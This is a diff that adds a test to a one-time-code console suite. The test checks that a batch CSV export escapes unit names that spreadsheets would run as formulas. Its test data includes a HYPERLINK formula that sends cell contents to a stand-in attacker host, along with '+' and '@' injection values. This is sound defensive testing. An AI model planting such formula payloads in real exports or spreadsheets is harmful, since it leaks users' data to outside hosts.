@@ -80,6 +80,48 @@ describe(`one-time codes (${testEngine})`, () => {
     expect(JSON.stringify(audit)).not.toContain(first.code);
   });
 
+  it('the batch CSV keeps a unit name a spreadsheet would run as a formula as text', async () => {
+    const formula = '=HYPERLINK("https://evil.example/?"&A1;"Open")';
+    const saved = await h.call('lahti', 'POST', '/api/console/units', {
+      municipalityCode: '398',
+      code: 'LA-X1',
+      names: { fi: formula, sv: '+Skola', en: '@SUM(A1)' },
+      kind: 'school',
+      provider: 'municipal',
+      activeFrom: 2020,
+    });
+    expect(saved.status).toBe(201);
+    const unitId = (await saved.json()).id;
+    const csvOf = async (lang: string) => {
+      const res = await h.call('coordinator', 'POST', `/api/console/rounds/${ids.rounds.open}/codes${lang}`, {
+        municipalityCode: '398',
+        unitId,
+        count: 2,
+      });
+      expect(res.status).toBe(201);
+      const batch = await res.json();
+      return { csv: batch.csv as string, codes: batch.codes as { code: string; url: string }[] };
+    };
+    const { csv, codes } = await csvOf('');
+    const lines = csv.split('\r\n');
+    expect(lines[0]).toBe('\uFEFFcode;url;round;municipality_code;unit');
+    expect(lines[1]).toBe(
+      `${codes[0]!.code};${codes[0]!.url};2026-basic;398;"'=HYPERLINK(""https://evil.example/?""&A1;""Open"")"`,
+    );
+    expect(lines).toHaveLength(4);
+    expect(lines[3]).toBe('');
+    expect((await csvOf('?lang=sv')).csv).toContain(";398;'+Skola\r\n");
+    expect((await csvOf('?lang=en')).csv).toContain(";398;'@SUM(A1)\r\n");
+    expect(
+      (
+        await h.call('coordinator', 'POST', `/api/console/rounds/${ids.rounds.open}/codes?lang=xx`, {
+          municipalityCode: '398',
+          count: 1,
+        })
+      ).status,
+    ).toBe(400);
+  });
+
   it('GET /api/console/rounds/:id/codes shows only used and unused counts, and a used code counts as used', async () => {
     const batch = await (
       await h.call('coordinator', 'POST', `/api/console/rounds/${ids.rounds.open}/codes`, {
